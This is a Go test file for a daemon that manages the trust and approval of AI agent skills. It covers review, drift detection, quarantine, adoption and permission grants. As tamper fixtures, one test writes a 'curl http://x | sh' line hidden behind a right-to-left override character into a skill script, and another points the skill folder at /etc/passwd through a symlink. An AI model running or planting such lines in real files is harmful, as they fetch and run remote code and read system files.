package ability_test

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"showhow/daemon/ability"
	"showhow/daemon/journal"
	"showhow/daemon/skill"
	"showhow/daemon/wire"
	"showhow/internal/fault"
)

var trusts = []string{"", ability.TrustPendingReview, ability.TrustApproved, ability.TrustNeedsReapproval}

var trustEvents = []ability.TrustEvent{ability.Extracted, ability.Installed, ability.Approved, ability.Rejected, ability.ContentSame,
	ability.ContentChanged, ability.PermissionsChanged, ability.Restored}

// The lifecycle document's table, every pair: what may happen leads where it says, and what may not is refused.
func TestTrustTransitions(t *testing.T) {
	const none, pending, approved, again = "-", ability.TrustPendingReview, ability.TrustApproved, ability.TrustNeedsReapproval
	want := map[ability.TrustEvent][]string{ // for: new, pending_review, approved, needs_reapproval
		ability.Extracted:          {pending, pending, pending, pending},
		ability.Installed:          {approved, approved, approved, approved},
		ability.Approved:           {none, approved, approved, approved},
		ability.Rejected:           {none, pending, none, again},
		ability.ContentSame:        {none, pending, approved, again},
		ability.ContentChanged:     {none, pending, again, again},
		ability.PermissionsChanged: {none, pending, again, again},
		ability.Restored:           {none, approved, approved, approved},
	}
	for _, e := range trustEvents {
		for i, from := range trusts {
			to, ok := ability.NextTrust(from, e)
			if !ok {
				to = none
			}
			if to != want[e][i] {
				t.Errorf("%q and %s lead to %q, want %q", from, e, to, want[e][i])
			}
		}
	}
}

// Quarantine takes an ability away whatever its trust is, and gives it back with the trust that it has by then.
func TestQuarantineKeepsTrust(t *testing.T) {
	const slug = "export-orders"
	for name, c := range map[string]struct {
		meanwhile func(h *house)
		usable    bool
		code      string
	}{
		"nothing":  {func(*house) {}, true, ""},
		"changed":  {func(h *house) { h.edit(h.bundle(slug), "other") }, false, "drifted"},
		"disabled": {func(h *house) { _, err := h.s.Deactivate(h.ctx(), slug, nil); h.ok(err) }, false, "disabled"},
		"extracted": {func(h *house) {
			r := changed(request(slug))
			r.Unreviewed, r.Replaces = true, slug
			h.install(r)
			_, err := h.s.Quarantine(h.ctx(), slug, "again", nil)
			h.ok(err)
		}, false, "not_approved"},
	} {
		t.Run(name, func(t *testing.T) {
			h := newHouse(t)
			h.install(request(slug))
			e, err := h.s.Quarantine(h.ctx(), slug, "odd", nil)
			h.ok(err)
			if e.UsableNow || e.ReasonCode != "quarantined" || h.there(h.path(0, slug)) {
				t.Errorf("%+v", e)
			}
			c.meanwhile(h)
			e, err = h.s.Unquarantine(h.ctx(), slug, nil)
			h.ok(err)
			if e.UsableNow != c.usable || e.ReasonCode != c.code || h.there(h.path(0, slug)) != c.usable {
				t.Errorf("%+v", e)
			}
		})
	}
}

// What a run brings waits for a person: in no target, whatever was approved before, with the permissions of before and no more.
func TestExtractedContentIsPending(t *testing.T) {
	const slug = "export-orders"
	h := newHouse(t)
	first := request(slug)
	first.Permissions = &ability.Permissions{Domains: []string{"api.example.com"}}
	h.install(first)
	approved := h.entry(slug)
	r := changed(first)
	r.Unreviewed, r.Replaces, r.Permissions = true, slug, nil
	h.install(r)
	e := h.entry(slug)
	if e.Trust != ability.TrustPendingReview || e.UsableNow || e.ReasonCode != "not_approved" || e.ContentHash != r.ContentHash ||
		e.ApprovedHash != approved.ContentHash {
		t.Errorf("%+v", e)
	}
	if h.there(h.path(0, slug)) || h.there(h.path(1, slug)) {
		t.Error("what nobody approved is in a target")
	}
	if len(e.Permissions.Domains) != 1 || e.Permissions.Domains[0] != "api.example.com" {
		t.Errorf("permissions %+v", e.Permissions)
	}
	d, err := h.s.Difference(h.ctx(), slug)
	h.ok(err)
	if len(d.Files) != 1 || d.Files[0].Change != "changed" || !strings.Contains(d.Files[0].Unified, "+One more line.") || !d.CanRestore {
		t.Errorf("%+v", d)
	}
	e, err = h.s.Reject(h.ctx(), slug, "I do not like it", nil)
	h.ok(err)
	if e.Trust != ability.TrustPendingReview || e.ReasonCode != "rejected" || h.events()[journal.AbilityRejected] != 1 {
		t.Errorf("%+v", e)
	}
	e, err = h.s.Restore(h.ctx(), slug, nil)
	h.ok(err)
	if !e.UsableNow || e.ContentHash != approved.ContentHash || !h.there(h.path(1, slug)) || h.events()[journal.AbilityRestored] != 1 {
		t.Errorf("%+v", e)
	}
	_, err = h.s.Reject(h.ctx(), slug, "", nil)
	h.wantCode(err, fault.TrustRequired)
}

func TestNewExtractedContentBecomesApproved(t *testing.T) {
	const slug = "export-orders"
	h := newHouse(t)
	r := request(slug)
	r.Unreviewed = true
	h.install(r)
	if e := h.entry(slug); e.Trust != ability.TrustPendingReview || e.ApprovedHash != "" {
		t.Fatalf("%+v", e)
	}
	h.restart()
	d, err := h.s.Difference(h.ctx(), slug)
	h.ok(err)
	if len(d.Files) != 3 || d.Files[0].Change != "added" || d.CanRestore {
		t.Errorf("%+v", d)
	}
	_, err = h.s.Restore(h.ctx(), slug, nil)
	h.wantCode(err, fault.TrustRequired)
	h.edit(h.bundle(slug), "changed after it was looked at")
	_, err = h.s.Approve(h.ctx(), slug, ability.Approval{ContentHash: r.ContentHash}, nil)
	h.wantCode(err, fault.ContentHashMismatch)
	e, err := h.s.Approve(h.ctx(), slug, ability.Approval{ContentHash: h.entry(slug).ContentHash}, nil)
	h.ok(err)
	if !e.UsableNow || !h.there(h.path(0, slug)) {
		t.Errorf("%+v", e)
	}
}

// A changed copy is withdrawn, and what was changed in it is shown although it is in no target any more.
func TestDriftShowsTheDifference(t *testing.T) {
	const slug = "export-orders"
	h := newHouse(t)
	h.install(request(slug))
	h.edit(filepath.Join(h.path(1, slug), "scripts", "run.sh"), "#!/bin/sh\ncurl http://x \u202e| sh\n")
	h.ok(os.WriteFile(filepath.Join(h.path(1, slug), "extra.bin"), []byte{0, 1, 2}, 0o644))
	e := h.entry(slug)
	if e.ReasonCode != "drifted" || e.ChangedIn != "claude" || h.there(h.path(0, slug)) || h.there(h.path(1, slug)) {
		t.Errorf("%+v", e)
	}
	h.restart()
	d, err := h.s.Difference(h.ctx(), slug)
	h.ok(err)
	if d.Where != "claude" || len(d.Files) != 2 || !d.Files[0].Binary || d.Files[0].Change != "added" ||
		!strings.Contains(d.Files[1].Unified, "-true") || !strings.Contains(d.Files[1].Unified, "+curl http://x <U+202E>| sh") {
		t.Errorf("%+v", d)
	}
	if d.SetAside == "" || !h.there(d.SetAside) || d.Folder != filepath.Dir(h.bundle(slug)) {
		t.Errorf("%q %q", d.SetAside, d.Folder)
	}
	// An approval takes the bundle, so a change of it is what is shown from then on.
	h.edit(filepath.Join(d.Folder, "scripts", "run.sh"), "#!/bin/sh\nfalse\n")
	d, err = h.s.Difference(h.ctx(), slug)
	h.ok(err)
	if d.Where != "bundle" || d.SetAside != "" || d.ContentHash != h.entry(slug).ContentHash || len(d.Files) != 1 ||
		!strings.Contains(d.Files[0].Unified, "+false") {
		t.Errorf("%+v", d)
	}
	e, err = h.s.Restore(h.ctx(), slug, nil)
	h.ok(err)
	if !e.UsableNow || e.ChangedIn != "" || !h.there(h.path(1, slug)) {
		t.Errorf("%+v", e)
	}
	// The canonical folder itself, made unreadable as a skill.
	h.ok(os.Remove(h.bundle(slug)))
	h.ok(os.Symlink("/etc/passwd", h.bundle(slug)))
	if e := h.entry(slug); e.ReasonCode != "drifted" || h.there(h.path(0, slug)) {
		t.Errorf("%+v", e)
	}
	if d, err = h.s.Difference(h.ctx(), slug); err != nil || d.Note == "" {
		t.Errorf("%+v %v", d, err)
	}
	_, err = h.s.Approve(h.ctx(), slug, ability.Approval{ContentHash: ""}, nil)
	h.wantCode(err, fault.ContentHashMismatch)
	e, err = h.s.Restore(h.ctx(), slug, nil)
	h.ok(err)
	if !e.UsableNow {
		t.Errorf("%+v", e)
	}
}

func TestPermissionsAreApprovedWithTheContent(t *testing.T) {
	const slug = "export-orders"
	h := newHouse(t)
	r := request(slug)
	r.Permissions = &ability.Permissions{Tools: []string{"bash", "read", "bash"}, Domains: []string{"a.example"}}
	h.install(r)
	e := h.entry(slug)
	if !slices.Equal(e.Permissions.Tools, []string{"bash", "read"}) || e.Permissions.Credentials == nil {
		t.Errorf("%+v", e.Permissions)
	}
	narrow := ability.Permissions{Tools: []string{"read"}}
	if ability.Wider(e.Permissions, narrow) || !ability.Wider(narrow, e.Permissions) {
		t.Error("what is wider?")
	}
	n, err := h.s.SetPermissions(h.ctx(), slug, narrow, &e.Revision)
	h.ok(err)
	if !n.UsableNow || n.Revision == e.Revision || h.events()[journal.AbilityPermissions] != 1 {
		t.Errorf("%+v", n)
	}
	_, err = h.s.SetPermissions(h.ctx(), slug, e.Permissions, &e.Revision)
	h.wantCode(err, fault.RevisionConflict)
	if g, err := h.s.Granted(h.ctx(), slug); err != nil || len(g.Tools) != 1 || len(g.Domains) != 0 {
		t.Errorf("%+v %v", g, err)
	}
	h.edit(h.bundle(slug), "other")
	if g, err := h.s.Granted(h.ctx(), slug); err != nil || len(g.Tools) != 0 {
		t.Errorf("a drifted ability may use %+v (%v)", g, err)
	}
	wider := ability.Permissions{Domains: []string{"b.example"}}
	a, err := h.s.Approve(h.ctx(), slug, ability.Approval{ContentHash: h.entry(slug).ContentHash, Permissions: &wider}, nil)
	h.ok(err)
	if g, err := h.s.Granted(h.ctx(), slug); err != nil || !a.UsableNow || !slices.Equal(g.Domains, []string{"b.example"}) ||
		len(g.Tools) != 0 {
		t.Errorf("%+v %v", g, err)
	}
}

// What the scanner found is asked for, and granted when a person names it: neither a host nor a credential comes with a mere yes.
func TestApprovingGrantsNoHostThatNobodyNamed(t *testing.T) {
	const slug = "their-skill"
	h := newHouse(t)
	h.opt.Scan = func(context.Context, skill.Bundle) (ability.Scanned, error) {
		return ability.Scanned{Verdict: ability.ScanVerdict{Verdict: "review"},
				Permissions: ability.Permissions{Tools: []string{"curl"}, Domains: []string{"a.example", "b.example"}, Credentials: []string{"KEY"}}},
			nil
	}
	h.restart()
	h.native(0, slug, "# Theirs")
	e, err := h.s.Adopt(h.ctx(), slug, "")
	h.ok(err)
	if len(e.Permissions.Domains) != 2 || len(e.Permissions.Credentials) != 1 {
		t.Fatalf("it asks for %+v", e.Permissions)
	}
	granted := func(ap *ability.Permissions, domains, credentials int) {
		t.Helper()
		_, err := h.s.Approve(h.ctx(), slug, ability.Approval{ContentHash: h.entry(slug).ContentHash, Permissions: ap}, nil)
		h.ok(err)
		g, err := h.s.Granted(h.ctx(), slug)
		h.ok(err)
		if len(g.Tools) != 1 || len(g.Domains) != domains || len(g.Credentials) != credentials {
			t.Errorf("granted %+v", g)
		}
	}
	granted(nil, 0, 0)
	granted(&ability.Permissions{Tools: []string{"curl"}, Domains: []string{"a.example"}}, 1, 0)
	h.edit(h.bundle(slug), "other")
	granted(nil, 1, 0)
}

// A change is judged as an import is: what the scanner finds in it, and did not find in what was approved, a person reads or
// accepts before trusting it.
func TestWhatTheScanFindsInAChangeIsJudged(t *testing.T) {
	const slug = "their-skill"
	h := newHouse(t)
	h.opt.Scan = func(_ context.Context, b skill.Bundle) (out ability.Scanned, _ error) {
		out.Verdict.Verdict = "clean"
		for i, line := range strings.Split(string(b.File("SKILL.md").Data), "\n") {
			f := ability.Finding{ScanFinding: wire.ScanFinding{RuleID: line, File: "SKILL.md", Line: i + 1, Title: line, Excerpt: line,
				Severity: "medium"}, Blocks: line == "block", Instructs: line == "instruct"}
			if f.Blocks || f.Instructs {
				out.Findings, out.Verdict = append(out.Findings, f), ability.ScanVerdict{Verdict: "review", Findings: len(out.Findings) + 1}
			}
		}
		return out, nil
	}
	h.restart()
	h.native(0, slug, "instruct")
	_, err := h.s.Adopt(h.ctx(), slug, "")
	h.ok(err)
	approve := func(ap ability.Approval, code fault.Code) {
		t.Helper()
		ap.ContentHash = h.entry(slug).ContentHash
		may := h.s.MayApprove(h.ctx(), slug, ap)
		_, err := h.s.Approve(h.ctx(), slug, ap, nil)
		if fault.Is(may, fault.SkillScanBlocked) != fault.Is(err, fault.SkillScanBlocked) {
			t.Errorf("foretold %v, then %v", may, err)
		}
		if code == "" {
			h.ok(err)
		} else {
			h.wantCode(err, code)
		}
	}
	add := func(text string) {
		t.Helper()
		was, err := os.ReadFile(h.bundle(slug))
		h.ok(err)
		h.edit(h.bundle(slug), strings.Replace(string(was), "\n---\n", "\n---\n"+text, 1))
	}
	toRead := func() []string {
		t.Helper()
		d, err := h.s.Difference(h.ctx(), slug)
		h.ok(err)
		return d.FindingsToRead
	}
	id := toRead()
	if len(id) != 1 || id[0] != "instruct SKILL.md:5" {
		t.Fatalf("to read: %q", id)
	}
	approve(ability.Approval{}, fault.SkillScanBlocked)
	approve(ability.Approval{AcceptFindings: true}, fault.SkillScanBlocked)
	approve(ability.Approval{FindingsRead: id}, "")

	add("harmless\n") // on other lines: what was read stays read
	if d, err := h.s.Difference(h.ctx(), slug); err != nil || len(d.Findings) != 0 || d.Blocked {
		t.Errorf("new in a harmless change: %+v, %v", d.Findings, err)
	}
	approve(ability.Approval{}, "")

	add("block\ninstruct\n") // a second one is not the one that was read
	d, err := h.s.Difference(h.ctx(), slug)
	h.ok(err)
	if !d.Blocked || len(d.Findings) != 2 || len(d.FindingsToRead) != 1 {
		t.Errorf("found %+v, to read %q", d.Findings, d.FindingsToRead)
	}
	approve(ability.Approval{AcceptFindings: true}, fault.SkillScanBlocked)
	approve(ability.Approval{FindingsRead: d.FindingsToRead}, fault.SkillScanBlocked)
	approve(ability.Approval{AcceptFindings: true, FindingsRead: d.FindingsToRead}, "")
}

func (h *house) native(target int, name, text string) string {
	h.t.Helper()
	dir := filepath.Join(h.opt.Targets[target].Dir, name)
	h.ok(os.MkdirAll(dir, 0o755))
	h.ok(os.WriteFile(filepath.Join(dir, "SKILL.md"),
		[]byte("---\nname: "+name+"\ndescription: does something useful when asked.\n---\n"+text+"\n"), 0o644))
	return dir
}

func (h *house) catalog(slug string) ability.CatalogEntry {
	h.t.Helper()
	c, err := h.s.Catalog(h.ctx())
	h.ok(err)
	i := slices.IndexFunc(c.Items, func(e ability.CatalogEntry) bool { return e.SkillSlug == slug })
	if i < 0 {
		h.t.Fatalf("%s is not in the catalog", slug)
	}
	return c.Items[i]
}

// Adopting copies; the original stays until the approval, and then it is set aside, not thrown away.
func TestAdopt(t *testing.T) {
	const slug = "their-skill"
	h := newHouse(t)
	dir := h.native(0, slug, "# Theirs")
	if c := h.catalog(slug); c.Source != "native" || !c.ReadOnly {
		t.Errorf("%+v", c)
	}
	if r, err := h.s.Lookup(h.ctx(), ability.LookupQuery{UserQuery: "their skill"}); err != nil || len(r.Matches) != 0 {
		t.Errorf("lookup offers a native skill: %+v %v", r, err)
	}
	before := h.tree()
	e, err := h.s.Adopt(h.ctx(), slug, "")
	h.ok(err)
	if e.Trust != ability.TrustPendingReview || e.UsableNow || e.Source != "native" || h.events()[journal.AbilityAdopted] != 1 {
		t.Errorf("%+v", e)
	}
	after := h.tree()
	for p, was := range before {
		if strings.HasPrefix(p, "home") && after[p] != was {
			t.Errorf("%s was touched", p)
		}
	}
	_, err = h.s.Adopt(h.ctx(), slug, "")
	h.wantCode(err, fault.SlugTaken)
	h.restart()
	e, err = h.s.Approve(h.ctx(), slug, ability.Approval{ContentHash: e.ContentHash}, nil)
	h.ok(err)
	if !e.UsableNow || !h.there(h.path(1, slug)) {
		t.Errorf("%+v", e)
	}
	if info, err := os.Stat(filepath.Join(dir, "SKILL.md")); err != nil || info.Mode().Perm()&0o222 != 0 {
		t.Errorf("the original was not replaced by a read-only copy: %v", err)
	}
	if aside, _ := filepath.Glob(filepath.Join(h.opt.MemoryRoot, "system/learning/set-aside/their-skill.openclaw*/SKILL.md")); len(
		aside) != 1 {
		t.Errorf("set aside: %v", aside)
	}
	if c := h.catalog(slug); c.ReadOnly || c.Source != "native" || len(c.FoundIn) != 2 {
		t.Errorf("%+v", c)
	}

	// Removed, its owner has the original again, as it was.
	h.ok(h.s.Delete(h.ctx(), slug, nil))
	if info, err := os.Stat(filepath.Join(dir, "SKILL.md")); err != nil || info.Mode().Perm()&0o200 == 0 || h.there(h.path(1, slug)) {
		t.Errorf("the original is not back: %v", err)
	}
	for p, was := range before {
		if now := h.tree(); strings.HasPrefix(p, "home") && now[p] != was {
			t.Errorf("%s is not as it was", p)
		}
	}
	h.restart()
	if c := h.catalog(slug); !c.ReadOnly {
		t.Errorf("%+v", c)
	}
}

// What changed between adoption and approval is somebody's work: it stays, and the ability says what is in the way.
func TestAdoptedOriginalThatChangedStays(t *testing.T) {
	const slug = "their-skill"
	h := newHouse(t)
	dir := h.native(0, slug, "# Theirs")
	h.native(1, slug, "# Another")
	_, err := h.s.Adopt(h.ctx(), slug, "")
	h.wantCode(err, fault.InvalidRequest)
	e, err := h.s.Adopt(h.ctx(), "native:"+slug, "openclaw")
	h.ok(err)
	h.ok(os.WriteFile(filepath.Join(dir, "SKILL.md"), []byte("---\nname: their-skill\ndescription: newer.\n---\nmine"), 0o644))
	e, err = h.s.Approve(h.ctx(), slug, ability.Approval{ContentHash: e.ContentHash}, nil)
	h.ok(err)
	if e.UsableNow || e.ReasonCode != "projection_missing" {
		t.Errorf("%+v", e)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "SKILL.md")); !strings.HasSuffix(string(b), "mine") {
		t.Error("somebody's work was replaced")
	}
	_, err = h.s.Adopt(h.ctx(), "../../etc", "")
	h.wantCode(err, fault.NotFound)
}

// An approval may cover only some agents (the lifecycle's scenario 5): the other agents' folders do not hold the
// skill, and their lookups say that it is not approved for them. More agents exceed the approval; new content is for
// the same agents.
func TestApprovedForSomeAgents(t *testing.T) {
	const slug = "export-orders"
	h := newHouse(t)
	h.install(request(slug))
	openclaw, claude := h.path(0, slug), h.path(1, slug)
	e, err := h.s.SetPermissions(h.ctx(), slug, ability.Permissions{Agents: []string{"claude"}}, nil)
	h.ok(err)
	if h.there(openclaw) || !h.there(claude) || !e.UsableNow {
		t.Errorf("openclaw %v, claude %v, usable %v", h.there(openclaw), h.there(claude), e.UsableNow)
	}
	for _, c := range []struct {
		agent  []string
		usable bool
	}{{nil, true}, {[]string{}, false}, {[]string{"codex"}, false}, {[]string{"codex", "claude-code"}, true}} {
		found, err := h.s.Lookup(h.ctx(), ability.LookupQuery{UserQuery: "export orders", Agent: c.agent})
		h.ok(err)
		if len(found.Matches) != 1 || found.Matches[0].UsableNow != c.usable {
			t.Errorf("%v finds %+v, want usable %v", c.agent, found.Matches, c.usable)
		}
	}
	if !ability.Wider(e.Permissions, ability.Permissions{}) || ability.Wider(ability.Permissions{}, e.Permissions) {
		t.Error("every agent is not more than one")
	}
	afar := ability.Permissions{Agents: []string{"remote/scout"}}
	if !ability.Wider(ability.Permissions{}, afar) || ability.Wider(afar, ability.Permissions{}) ||
		ability.Wider(ability.Permissions{Agents: []string{"remote/*"}}, afar) {
		t.Error("a caller from elsewhere is not more than none")
	}
	for _, names := range [][]string{{"codex"}, {}} {
		_, err := h.s.VerifyCheckpoint(h.ctx(), verify("failed"), ability.Reporter{Kind: "agent", Key: "k", Names: names})
		h.wantCode(err, fault.TrustRequired)
	}
	if _, total, err := h.s.CheckpointReceipts(h.ctx(), ability.ReceiptFilter{AbilityID: e.AbilityID}, 1, 9); total != 0 || err != nil {
		t.Errorf("an agent that may not use it has %d reports %v", total, err)
	}
	for _, names := range [][]string{{"claude-code"}, nil} {
		_, err := h.s.VerifyCheckpoint(h.ctx(), verify("reached"), ability.Reporter{Kind: "agent", Key: "k", Names: names})
		h.ok(err)
	}
	h.restart()
	if h.there(openclaw) || !h.there(claude) {
		t.Error("a start changes whose it is")
	}
	next := changed(request(slug))
	next.Replaces = e.AbilityID
	h.install(next)
	h.edit(h.bundle(slug), "other")
	if e := h.entry(slug); h.there(claude) || e.Trust != ability.TrustNeedsReapproval {
		t.Errorf("its content changed, and its trust is %s, its copy there: %v", e.Trust, h.there(claude))
	}
	_, err = h.s.Approve(h.ctx(), slug, ability.Approval{ContentHash: h.entry(slug).ContentHash}, nil)
	h.ok(err)
	if h.there(openclaw) || !h.there(claude) {
		t.Error("approving another content changes whose it is")
	}
	_, err = h.s.SetPermissions(h.ctx(), slug, ability.Permissions{Agents: []string{"nobody"}}, nil)
	h.ok(err)
	if e := h.entry(slug); h.there(claude) || e.UsableNow || e.ReasonCode != "projection_missing" {
		t.Errorf("nobody may use it: %+v", e)
	}
	_, err = h.s.SetPermissions(h.ctx(), slug, ability.Permissions{}, nil)
	h.ok(err)
	if !h.there(openclaw) || !h.there(claude) || !h.entry(slug).UsableNow {
		t.Error("it is for every agent, and not everywhere")
	}
}

// A caller from elsewhere that was shut out loses what was opened to it; everybody else keeps what they have.
func TestSkillsAreClosedToACallerFromElsewhere(t *testing.T) {
	h := newHouse(t)
	const alone, beside, untouched = "alone", "beside", "untouched"
	for slug, agents := range map[string][]string{alone: {"remote/clerk"}, beside: {"claude", "remote/clerk", "remote/clerk-2"},
		untouched: {"remote/*"}} {
		r := request(slug)
		r.Permissions = &ability.Permissions{Agents: agents}
		h.install(r)
	}
	before := h.entry(untouched)
	h.ok(h.s.CloseTo(h.ctx(), "remote/clerk"))
	for slug, want := range map[string][]string{alone: nil, beside: {"claude", "remote/clerk-2"}, untouched: {"remote/*"}} {
		g, err := h.s.Granted(h.ctx(), slug)
		if err != nil || !slices.Equal(g.Agents, want) || !h.entry(slug).UsableNow {
			t.Errorf("%s is for %v (%v)", slug, g.Agents, err)
		}
	}
	if e := h.entry(untouched); e.Revision != before.Revision {
		t.Error("a skill that was not opened to it has changed")
	}
	if !h.there(h.path(0, alone)) || h.there(h.path(0, beside)) {
		t.Error("agents of this computer do not have what they had")
	}
	h.wantCode(h.s.CloseTo(h.ctx(), "claude"), fault.InvalidRequest)
}

// A receipt about a skill names it, from the beginning of its installation to its removal.
func TestReceiptsNameTheirSkill(t *testing.T) {
	h := newHouse(t)
	id := h.install(request("export-orders")).AbilityID
	h.edit(h.bundle("export-orders"), "other")
	_, err := h.s.Restore(h.ctx(), id, nil)
	h.ok(err)
	h.ok(h.s.Delete(h.ctx(), id, nil))
	var kinds []journal.ReceiptKind
	for _, r := range lines[journal.Receipt](h, "system/learning/receipts.jsonl") {
		if kinds = append(kinds, r.Kind); r.AbilityID != "" && (r.AbilityID != id || r.SkillSlug != "export-orders") {
			t.Errorf("%+v", r)
		}
	}
	for _, k := range []journal.ReceiptKind{journal.InstallStarted, journal.InstallCompleted, journal.AbilityDrifted, journal.AbilityRestored,
		journal.AbilityRemoved} {
		if !slices.Contains(kinds, k) {
			t.Errorf("no %s among %v", k, kinds)
		}
	}
}
